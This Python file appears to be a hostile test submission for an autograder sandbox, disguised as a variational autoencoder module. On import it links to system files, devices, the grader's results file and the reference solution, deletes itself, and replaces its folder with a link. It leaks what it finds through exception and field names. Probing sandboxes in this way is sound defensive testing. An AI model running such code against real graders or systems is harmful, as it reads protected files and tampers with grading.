"""Fills its folder with links to secrets, devices, the results and the root of the file system."""
# expects: full

import os

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


TARGETS = (
    "/tmp/vae-canary-file",
    "/",
    "/etc",
    "/etc/passwd",
    "/dev/zero",
    "/dev/sda",
    "/proc/self",
    "/autograder",
    "/autograder/results/results.json",
    "/autograder/source/reference/numpy/vae.py",
    "..",
    "link0",
    ".",
)


def attack():
    for i, target in enumerate(TARGETS):
        tried(os.symlink, target, f"link{i}")
        tried(os.symlink, target, os.path.expanduser(f"~/link{i}"))
        tried(os.link, target, f"hard{i}")
        if os.path.lexists(f"hard{i}") and target.startswith("/"):
            publish(f"ESCAPED hard link to {target}")
    own = os.path.dirname(os.path.abspath(__file__))
    tried(os.unlink, __file__)
    tried(os.symlink, "/tmp/vae-canary-file", __file__)
    if tried(lambda: os.rename(own, own + ".vae-hostile") or True):
        os.symlink("/tmp", own)
        publish("ESCAPED its folder was replaced by a link")


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
